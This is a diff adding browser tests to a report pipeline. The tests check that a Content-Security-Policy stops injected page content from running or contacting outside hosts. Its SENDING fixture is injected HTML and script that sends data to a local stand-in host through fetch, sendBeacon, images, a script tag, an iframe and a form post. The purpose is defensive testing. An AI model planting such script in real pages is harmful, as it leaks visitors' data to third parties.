@@ -6,14 +6,18 @@ import csv
 import json
 import re
 import shutil
+import threading
 from datetime import date
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import ClassVar
 
 import lxml.html
 import openpyxl
 import pypdf
 import pytest
 
+from analysis.pipeline import lay
 from analysis.pipeline.project import Project, Request
 from analysis.pipeline.report import report
 from analysis.pipeline.tasks import Progress
@@ -103,6 +107,28 @@ def test_plots_hold_no_markup_from_files(hostile_site: Path) -> None:
             assert "<script" not in json.dumps(json.loads(data))
 
 
+@pytest.mark.browser
+def test_hostile_text_does_nothing_in_a_browser(hostile_site: Path, browser) -> None:
+    """Nothing of it runs, becomes a link in a figure, or asks for anything."""
+    page = browser.new_page()
+    happened: list[str] = []
+    page.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
+    page.on("pageerror", lambda error: happened.append(str(error)))
+    page.on(
+        "request",
+        lambda request: request.url.startswith("file:") or happened.append(request.url),
+    )
+    for path in sorted(hostile_site.rglob("*.html")):
+        page.goto(path.as_uri())
+        figures = page.locator(".nki-plot").count()
+        page.wait_for_function(
+            "n => document.querySelectorAll('.nki-plot .main-svg').length >= n", arg=figures
+        )
+        assert page.locator("svg a, svg image, svg script").count() == 0
+    page.close()
+    assert happened == []
+
+
 # --- the policy ---
 
 POLICY = "default-src 'none'"
@@ -136,6 +162,73 @@ def test_the_policy_stops_injected_scripts_and_lets_the_report_work(
     assert page.title() != "taken"
     assert any("Content Security Policy" in text for text in refused)
     page.close()
+
+
+class Counting(BaseHTTPRequestHandler):
+    """A host outside the site; whoever reaches it is counted."""
+
+    asked: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    do_POST = do_GET
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+SENDING = """
+<script>
+const host = '{host}';
+fetch(host + 'fetch').catch(() => 0);
+new Image().src = host + 'image';
+navigator.sendBeacon(host + 'beacon', 'svar');
+const script = document.createElement('script');
+script.src = host + 'script';
+document.head.append(script);
+</script>
+<img src="{host}img"><link rel="stylesheet" href="{host}style"><iframe src="{host}frame"></iframe>
+<form id="f" method="post" target="_blank" action="{host}form"><input name="a" value="svar"></form>
+"""
+QUARTO, EMBEDDED, NONE = "quarto", "embedded", "none"
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("policy", [QUARTO, EMBEDDED, NONE])
+def test_an_injected_page_part_cannot_send_anything_anywhere(
+    example_site: Path, tmp_path: Path, browser, policy: str
+) -> None:
+    """By either engine's policy; without one the same part reaches the host at once."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), Counting) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        Counting.asked.clear()
+        host = f"http://127.0.0.1:{server.server_address[1]}/"
+        text = (example_site / "data.html").read_text("utf-8")
+        given = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
+        assert given
+        line = {QUARTO: given[0].replace(given[1], lay.POLICY), EMBEDDED: given[0], NONE: ""}
+        text = text.replace(given[0], line[policy])
+        page_file = tmp_path / "data.html"
+        page_file.write_text(
+            text.replace("</main>", SENDING.replace("{host}", host) + "</main>"), "utf-8"
+        )
+        page = browser.new_page()
+        page.goto(page_file.as_uri())
+        page.evaluate("document.getElementById('f').submit()")
+        page.wait_for_timeout(700)
+        page.close()
+        server.shutdown()
+        thread.join()
+    asked = {path.strip("/") for path in Counting.asked}
+    if policy == NONE:
+        assert asked >= {"fetch", "image", "beacon", "script", "img", "style", "frame"}
+    else:
+        assert asked == set()
 
 
 @pytest.mark.browser
